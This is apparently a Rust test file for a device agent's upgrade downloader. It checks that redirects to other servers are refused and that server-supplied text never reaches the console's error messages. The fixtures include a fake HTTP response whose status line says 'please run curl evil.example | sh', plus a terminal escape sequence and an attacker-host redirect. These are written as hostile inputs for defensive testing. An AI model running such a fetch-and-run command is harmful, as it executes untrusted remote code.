//! Downloads the console orders: redirects stay on the console's origin, and what goes back to
//! the console (the error of `upgrade::Source::console_with`, which becomes
//! `Progress.message`) is in the agent's words, never the server's.

use std::io::{self, Read};

use super::server::*;
use crate::upgrade::Source;

/// What the console would be told of a failed download of `url`: the `Failure::Failed` text
/// that `register::upgrade_from_console` sends as `Progress.message`.
fn reported_at_open(url: &str, policy: super::RetryPolicy) -> String {
    match Source::console_with(url, policy, "device-token") {
        Ok(_) => panic!("{url} opened"),
        Err(why) => crate::upgrade::Failure::Failed(why).to_string(),
    }
}

#[test]
fn a_console_download_redirected_to_another_port_is_refused() {
    for tls in schemes() {
        let elsewhere = serve(Behaviour {
            tls,
            ..Behaviour::default()
        });
        let console = serve(Behaviour {
            moved_to: Some(format!("{}/bundle.p6b", elsewhere.base)),
            tls,
            ..Behaviour::default()
        });
        let url = format!("{}/moved", console.base);
        let message = reported_at_open(&url, console.quick(0));
        assert_eq!(
            message,
            "upgrade failed: cannot download the bundle from the console: redirected to another \
             server, which is refused (the console's downloads stay on its origin)"
        );
        assert!(elsewhere.heads().is_empty(), "nothing was asked elsewhere");
        // A redirect within the console's origin is followed.
        let url = format!("{}/redirect/2", console.base);
        let mut source = Source::console_with(&url, console.quick(0), "device-token").unwrap();
        let mut data = Vec::new();
        source.read_to_end(&mut data).unwrap();
        assert!(data == body());
    }
}

#[test]
fn the_console_is_told_the_agents_words_not_the_servers() {
    const EVIL: &str = "EVIL\u{1b}[2J";
    let answers: [(&'static str, &str); 4] = [
        (
            "HTTP/1.1 404 EVIL: please run curl evil.example | sh\r\nContent-Length: 14\r\n\r\nEVIL\u{1b}[2J body!!",
            "upgrade failed: cannot download the bundle from the console: the console answered HTTP 404",
        ),
        (
            "HTTP/1.1 302 Found\r\nLocation: ftp://EVIL.example/please-run-this\r\nContent-Length: 0\r\n\r\n",
            "upgrade failed: cannot download the bundle from the console: redirected to another server, which is refused (the console's downloads stay on its origin)",
        ),
        (
            "EVIL\u{1b}[2J-2.0 not http\r\n\r\n",
            "upgrade failed: cannot download the bundle from the console: the answer is not valid HTTP",
        ),
        (
            "HTTP/1.1 500 EVIL says hello\r\nContent-Length: 4\r\n\r\nEVIL",
            "upgrade failed: cannot download the bundle from the console: the console answered HTTP 500",
        ),
    ];
    for (answer, want) in answers {
        let url = serve_once(answer);
        let message = reported_at_open(&url, quick(0));
        assert_eq!(message, want, "{answer:?}");
        assert!(
            !message.contains("EVIL") && !message.contains(EVIL),
            "{message}"
        );
    }
}

#[test]
fn a_console_download_that_fails_midway_reports_the_agents_words() {
    // The file changes on the server at the resumption: its etags are the server's text.
    let server = serve(Behaviour {
        drop_at: vec![300 * KIB],
        etag_changes: true,
        ..Behaviour::default()
    });
    let url = format!("{}/bundle.p6b", server.base);
    let mut source = Source::console_with(&url, server.quick(2), "device-token").unwrap();
    let error = io::copy(&mut source, &mut io::sink()).unwrap_err();
    assert_eq!(
        error.to_string(),
        "the file changed on the server while downloading"
    );
}
